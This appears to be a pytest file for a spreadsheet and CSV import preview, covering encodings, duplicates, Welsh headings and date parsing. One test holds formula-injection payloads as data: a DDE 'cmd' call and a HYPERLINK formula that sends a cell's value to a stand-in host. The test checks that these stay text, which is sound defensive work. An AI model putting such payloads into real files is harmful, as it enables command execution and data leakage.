"""The ten example files, each as its expectations say."""

from __future__ import annotations

import datetime as dt
import json

import pytest

from facilitator.interchange.preview import RowOutcome
from facilitator.interchange.remarks import Answer
from tests.interchange.making import EXAMPLES, preview

EXPECTED = json.loads((EXAMPLES / "expectations.json").read_text("utf-8"))
DEFAULTS = (Answer("default"),)
ASKING = {
    "03_cp1252_semicolon.csv",
    "20_duplicate_people.csv",
    "24_dates_mixed.csv",
    "45_dates_as_numbers_text_bool_error.xlsx",
}


@pytest.mark.parametrize("name", EXPECTED)
def test_each_file_does_what_is_expected_of_it(name: str) -> None:
    expected = EXPECTED[name]
    read = preview(EXAMPLES / name, answers=() if expected["outcome"] == "ask" else DEFAULTS)
    assert read.count(RowOutcome.NEW) == expected["rows"]
    assert [line.row for line in read.rejected] == expected.get("rejected_rows", [])
    named = " ".join(line.name for line in read.rows)
    assert all(part in named for part in expected.get("must_contain", []))
    assert bool(read.warnings) == (expected["outcome"] in {"import_with_warning", "ask"})


@pytest.mark.parametrize("name", EXPECTED)
def test_nothing_is_ready_while_something_must_be_asked(name: str) -> None:
    read = preview(EXAMPLES / name)
    assert bool(read.open_questions) == (name in ASKING)
    assert bool(read.drafts) == (name not in ASKING)


def test_a_guessed_encoding_is_shown_with_names() -> None:
    [question] = preview(EXAMPLES / "03_cp1252_semicolon.csv").questions
    assert question.key == "import_encoding_guessed"
    assert question.said["names"] == "Siân Wyn-Jones, Zoë O’Neill"
    assert question.default == question.choices[0] == "windows-1252"


def test_a_guessed_encoding_can_be_refused() -> None:
    read = preview(EXAMPLES / "03_cp1252_semicolon.csv", answers=(Answer("stop"),))
    assert not read.open_questions
    assert not read.drafts


def test_ragged_rows_are_told_by_their_numbers() -> None:
    read = preview(EXAMPLES / "13_ragged_rows.csv")
    assert [(warning.row, warning.key) for warning in read.warnings] == [
        (3, "import_missing_columns"),
        (4, "import_more_cells"),
    ]
    assert [draft.person.full_name for draft in read.drafts] == ["Ali Khan", "Sara"]


def test_the_header_is_found_below_a_title() -> None:
    read = preview(EXAMPLES / "17_title_rows_before_header.csv")
    assert read.headings is not None
    assert read.headings.row == 5
    assert [line.row for line in read.rows] == [6, 7, 8]


def test_welsh_headings_mean_the_same_fields() -> None:
    welsh = preview(EXAMPLES / "18_welsh_headers.csv").drafts
    assert welsh == preview(EXAMPLES / "01_utf8_plain.csv").drafts
    assert welsh[1].person.sort_name == "ap Rhys, Llŷr"
    assert welsh[1].person.qualified_on == dt.date(2012, 5, 14)


def test_duplicates_are_skipped_recognised_or_asked() -> None:
    read = preview(EXAMPLES / "20_duplicate_people.csv")
    assert [line.outcome for line in read.rows] == ["new", "skip", "skip", "ask", "ask"]
    assert [(asked.row, asked.default) for asked in read.questions] == [(5, "same"), (6, "new")]
    answered = preview(EXAMPLES / "20_duplicate_people.csv", answers=DEFAULTS)
    assert [draft.person.row for draft in answered.drafts] == [2, 6]


def test_formula_like_cells_stay_text() -> None:
    first, second = preview(EXAMPLES / "22_formula_injection.csv").drafts
    assert first.person.full_name == "=cmd|'/c calc'!A1 +44 1248"
    assert first.person.organisation == "-2+3"
    assert first.person.role == "=1+1"
    assert second.person.full_name == '=HYPERLINK("http://x.example/?"&A1,"ok") Jones'


def test_dates_are_day_first_and_never_swapped() -> None:
    path = EXAMPLES / "24_dates_mixed.csv"
    asked = preview(path)
    assert [(q.row, q.choices) for q in asked.open_questions] == [(6, ("2013-02-01", "blank"))]
    days = [draft.person.qualified_on for draft in preview(path, answers=DEFAULTS).drafts]
    first = dt.date(2013, 2, 1)
    assert days == [
        first, dt.date(2013, 2, 28), None, None, first, first, first, dt.date(1913, 2, 1),
    ]  # fmt: skip
    assert {4: "import_date_impossible", 5: "import_date_month"}.items() <= {
        warning.row: warning.key for warning in asked.warnings
    }.items()
    blank = preview(path, answers=(Answer("blank", 6),)).drafts
    assert blank[4].person.qualified_on is None


def test_typed_cells_of_a_workbook() -> None:
    path = EXAMPLES / "45_dates_as_numbers_text_bool_error.xlsx"
    read = preview(path, answers=DEFAULTS)
    assert [draft.person.qualified_on for draft in read.drafts] == [
        dt.date(2013, 2, 1), dt.date(2013, 2, 1), None, None, dt.date(2013, 3, 31), None,
    ]  # fmt: skip
    assert [(w.row, w.key) for w in read.warnings] == [
        (2, "import_date_serial"),
        (4, "import_truth_cell"),
        (5, "import_error_cell"),
        (7, "import_date_1900"),
    ]


def test_a_date_cell_is_its_day_only() -> None:
    drafts = preview(EXAMPLES / "40_plain.xlsx").drafts
    assert [draft.person.qualified_on for draft in drafts] == [dt.date(2012, 3, 1)] * 3
